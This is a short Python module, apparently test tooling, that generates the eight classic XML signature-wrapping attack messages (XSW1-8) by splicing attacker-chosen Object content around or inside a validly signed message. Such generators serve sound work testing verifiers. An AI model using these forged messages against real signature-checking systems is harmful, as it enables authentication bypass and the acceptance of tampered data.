"""The eight classic signature-wrapping attacks (XSW1-8), adapted to an enveloping signature.

Each keeps the rightly signed Object somewhere and puts other content where a careless reader looks.
"""

from __future__ import annotations

_END = b"</Signature>"


def wrappings(message: bytes, evil: bytes) -> dict[str, bytes]:
    """The eight attack messages, by a descriptive name.

    :param message: a signed message in compact form.
    :param evil: content of the Object that is slipped in.
    """
    at = message.index(b"<Object")
    head, good = message[:at], message[at : -len(_END)]
    opening = good[: good.index(b">") + 1]
    other = b'<Object Id="evil">'

    def slipped_in(same_id: bool, more: bytes = b"") -> bytes:
        return (opening if same_id else other) + evil + more + b"</Object>"

    in_key_info = head.replace(b"</KeyInfo>", good + b"</KeyInfo>")
    return {
        "same-id-before-the-original": head + slipped_in(True) + good + _END,
        "same-id-after-the-original": head + good + slipped_in(True) + _END,
        "other-id-before-the-original": head + slipped_in(False) + good + _END,
        "original-inside-an-object-of-other-id": head + slipped_in(False, good) + _END,
        "original-inside-an-object-of-the-same-id": head + slipped_in(True, good) + _END,
        "original-in-keyinfo-other-id-in-its-place": in_key_info + slipped_in(False) + _END,
        "original-in-keyinfo-same-id-in-its-place": in_key_info + slipped_in(True) + _END,
        "whole-original-inside-the-object": head + slipped_in(False, message) + _END,
    }
